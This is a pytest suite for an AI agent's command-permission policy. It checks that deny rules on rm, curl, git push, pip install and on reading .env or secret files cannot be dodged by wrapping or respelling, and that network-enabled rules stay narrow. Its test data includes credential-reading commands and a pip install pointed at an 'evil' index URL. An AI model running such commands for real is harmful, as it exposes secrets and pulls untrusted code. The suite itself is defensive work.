"""Rules speak of what a command runs, not of how it is written."""

from collections.abc import Iterable

import pytest
from msgspec.structs import replace

from overt.core.settings import Action, Rule
from overt.safety.policy import PathFacts, subject_of
from overt.safety.rules import Subject, lasting, matching, opens_network, speaks_of
from overt.tools.registry import BUILT_IN

TOOLS = BUILT_IN.by_name


def bash(command: str) -> Subject:
    return subject_of(
        TOOLS["bash"], (command,), PathFacts(root="/w", exists=lambda path: False, edit_rules=BUILT_IN.edit_rules)
    )


def rule(action: Action, text: str) -> Rule:
    tool, _, pattern = text.partition("(")
    return Rule(action=action, tool=BUILT_IN.rule_names.get(tool.lower(), tool), pattern=pattern.removesuffix(")"))


@pytest.mark.parametrize(
    "command",
    ["rm x", "sudo rm x", "ls | xargs rm", "sh -c 'rm x'", "env A=1 nice -n 3 rm x", "echo $(rm x)", "'r'm x",
     "eval 'rm x'", "find . -exec rm {} +", "if true; then rm x; fi", "cat <<E\n$(rm x)\nE", "nice rm x",
     "r\\\nm x"],
)  # fmt: skip
def test_a_denied_program_is_denied_however_it_is_wrapped(command: str) -> None:
    assert speaks_of(rule("deny", "bash(rm *)"), bash(command))


@pytest.mark.parametrize("command", ["echo rm x", "ls rm", "git rm x", "grep 'rm *' f", "npm run rm"])
def test_a_denied_name_may_stand_among_the_arguments_of_others(command: str) -> None:
    assert not speaks_of(rule("deny", "bash(rm *)"), bash(command))


@pytest.mark.parametrize(
    ("pattern", "command", "allowed"),
    [
        ("npm run *", "npm run build", True),
        ("npm run *", "npm  run  'build'", True),
        ("npm run *", "NODE_ENV=test npm run build", True),
        ("npm run *", "npm run build && make", False),
        ("npm run *", "npm run build; npm run test", True),
        ("npm run *", "npm run build > log", False),
        ("npm run *", "npm run build 2>&1", True),
        ("npm run *", "npm run $(make)", False),
        ("npm run *", "npm run \"`npm run x`\"", True),
        ("npm run *", "npm run \"unclosed", False),
        ("npm run *", "$X npm run build", False),
        ("npm run:*", "timeout 9 npm run build", True),
        ("make *", "make; $(make)", False),
        ("git:*", "git log && git diff", True),
    ],
)  # fmt: skip
def test_allowing_needs_every_part_to_match_and_nothing_unclear(pattern: str, command: str, allowed: bool) -> None:
    assert speaks_of(rule("allow", f"Bash({pattern})"), bash(command)) is allowed


@pytest.mark.parametrize(
    "command",
    ["echo x > secrets/a", "echo x >> secrets/a", "cd secrets && echo x > a", "tee secrets/a", "cp b secrets/a",
     "sh -c 'echo x > secrets/a'", "cp b secrets/", "sort -o secrets/a b", "cd x; echo y > ../secrets/a"],
)  # fmt: skip
def test_what_a_command_writes_is_an_edit(command: str) -> None:
    assert speaks_of(rule("deny", "edit(secrets/**)"), bash(command))
    assert speaks_of(rule("ask", "write(secrets/**)"), bash(command))


def test_an_allowed_edit_allows_no_command() -> None:
    assert not speaks_of(rule("allow", "edit(secrets/**)"), bash("echo x > secrets/a"))


def test_a_command_that_writes_nothing_is_no_edit() -> None:
    assert not speaks_of(rule("deny", "edit"), bash("cat secrets/a"))
    assert speaks_of(rule("deny", "edit"), bash("echo x > a"))


def texts(rules: Iterable[Rule]) -> list[str]:
    return [f"{'exactly ' if each.exact else ''}{each.shown()}" for each in rules]


@pytest.mark.parametrize(
    ("command", "stored"),
    [
        ("pytest -q tests/a.py", ["bash(pytest *)"]),
        ("ls -la && .venv/bin/pytest tests -q 2>&1 | tail -3", ["bash(.venv/bin/pytest *)"]),
        ("cd sub && /w/sub/run -k 'a or b' > /dev/null | head", ["bash(/w/sub/run *)"]),
        ("npm run lint", ["bash(npm run lint *)"]),
        ("git commit -m x", ["bash(git commit *)"]),
        ("make", ["bash(make *)"]),
        ("make && cargo test", ["bash(make *)", "bash(cargo test *)"]),
        ("git status; make test; make test", ["bash(make test *)"]),
        ("./build.sh", ["bash(./build.sh *)"]),
        ("touch 'a b'", ["bash(touch *)"]),
        ("../build.sh", ["exactly bash(../build.sh)"]),
        ("python -m pytest -x", ["exactly bash(python -m pytest -x)"]),
        ("python3.11 tool.py", ["exactly bash(python3.11 tool.py)"]),
        (".venv/bin/python tool.py", ["exactly bash(.venv/bin/python tool.py)"]),
        ("ipython tool.py", ["exactly bash(ipython tool.py)"]),
        ("tsx a.ts", ["exactly bash(tsx a.ts)"]),
        ("make -f other.mk", ["exactly bash(make -f other.mk)"]),
        ("go run ./cmd", ["exactly bash(go run ./cmd)"]),
        ("poetry run python x.py", ["exactly bash(poetry run python x.py)"]),
        ("npx eslint .", ["exactly bash(npx eslint .)"]),
        ("pytest > new.log", ["exactly bash(pytest > new.log)"]),
        ("env A=1 make", ["exactly bash(env A=1 make)"]),
        ("A=1 make", ["exactly bash(A=1 make)"]),
        ("make && python x.py", ["exactly bash(make && python x.py)"]),
        ("make \"$(cargo test)\"", ["exactly bash(make \"$(cargo test)\")"]),
        ("python x.py *", []),
        ("python x.py:*", []),
    ],
)  # fmt: skip
def test_always_offers_rules_for_the_parts_that_are_not_harmless(command: str, stored: list[str]) -> None:
    rules = lasting(bash(command))
    assert texts(rules) == stored
    assert not rules or matching(rules, bash(command), "allow")


def test_always_with_the_network_stores_the_exact_command() -> None:
    for command in ("pip install requests", "npm install", "git push"):
        rules = lasting(bash(command), network=True)
        assert texts(rules) == [f"exactly bash({command}) with the network"]
        assert opens_network(rules, bash(command))
        assert not opens_network(rules, bash(f"{command} --index-url http://evil/ x"))


def test_rules_for_several_parts_allow_a_line_together_and_nothing_else() -> None:
    rules = lasting(bash("make && cargo test | tail"))
    for command in ("cargo test; make", "ls && make all", "cargo test -q | head"):
        assert matching(rules, bash(command), "allow")
    for command in ("make && cargo build", "make > new", "make -f evil.mk", "make && cargo test && touch x"):
        assert matching(rules, bash(command), "allow") is None


NPM = Rule(action="allow", tool="bash", pattern="npm *", network=True)


@pytest.mark.parametrize(
    ("command", "opened"),
    [
        ("npm install", True),
        ("cd sub && npm ci | tail -3", True),
        ("npm test", True),
        ("npm install && make", False),
        ("npm install && curl https://example.com", False),
        ("npm install > new.log", False),
        ("pip install x", False),
        ('npm install "$(pip download x)"', False),
    ],
)
def test_a_rule_opens_the_network_only_for_lines_that_it_covers(command: str, opened: bool) -> None:
    assert opens_network((NPM,), bash(command)) is opened
    assert not opens_network((replace(NPM, network=False),), bash(command))


def test_stored_rules_of_older_versions_open_no_network_by_their_beginning() -> None:
    prefix = Rule(action="allow", tool="bash", pattern="pip install:*", origin="always")
    exact = Rule(action="allow", tool="bash", pattern="pip install x", origin="always", exact=True)
    assert matching((prefix,), bash("pip install x"), "allow") and not opens_network((prefix,), bash("pip install x"))
    assert opens_network((exact,), bash("pip install x")) and not opens_network((exact,), bash("pip install x y"))


def test_a_rule_for_commands_that_begin_alike_opens_nothing_else() -> None:
    always = Rule(action="allow", tool="bash", pattern="git commit:*", origin="always")
    for fits in ("git commit", "git commit -m x", "git commit --no-verify -a"):
        assert speaks_of(always, bash(fits))
    for other in ("git push", "git commitx", "git commit -m x; make", 'git commit -m "$(make)"', "git commit > new"):
        assert not speaks_of(always, bash(other))


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("bash(curl *)", "/usr/bin/curl x"),
        ("bash(git push *)", "git -C . push"),
        ("bash(git push *)", "git --no-pager push origin"),
        ("bash(git push *)", "git -P push"),
        ("bash(git push *)", "git --git-dir=.git push"),
        ("bash(git push *)", "git -c color.ui=never -C sub push"),
        ("bash(pip install *)", "pip --quiet install x"),
        ("bash(pip install *)", "pip3 install x"),
        ("bash(pip install *)", "python3 -m pip install x"),
        ("bash(pip install *)", "uv pip install x"),
        ("read(.env)", "cat .env"),
        ("read(.env)", "grep KEY sub/.env"),
        ("read(.env)", "cat ./.ENV"),
        ("read(secret/**)", "head secret/../secret/a"),
        ("read(.env)", "jq -r --rawfile=.env .x"),
        ("read(.env)", "cat < .env"),
        ("read(.env)", "cat /w/.env"),
        ("read(secret/**)", "grep -r . secret"),
        ("read(secret/**)", "cd secret && cat a"),
        ("read(my file)", "cat 'my file'"),
        ("bash(pip install *)", "pip3.11 install x"),
        ("edit(kept/**)", "touch /w/kept/new"),
        ("edit(kept/**)", "cd /w/kept && touch q"),
    ],
)
def test_a_denial_is_not_dodged_by_another_spelling(text: str, command: str) -> None:
    assert speaks_of(rule("deny", text), bash(command))


def test_a_denial_of_reading_leaves_other_files_alone() -> None:
    for command in ("cat a.txt", "ls", "cat .env.example", "make"):
        assert not speaks_of(rule("deny", "read(.env)"), bash(command))
    assert not speaks_of(rule("deny", "bash(git push *)"), bash("git commit -m push"))
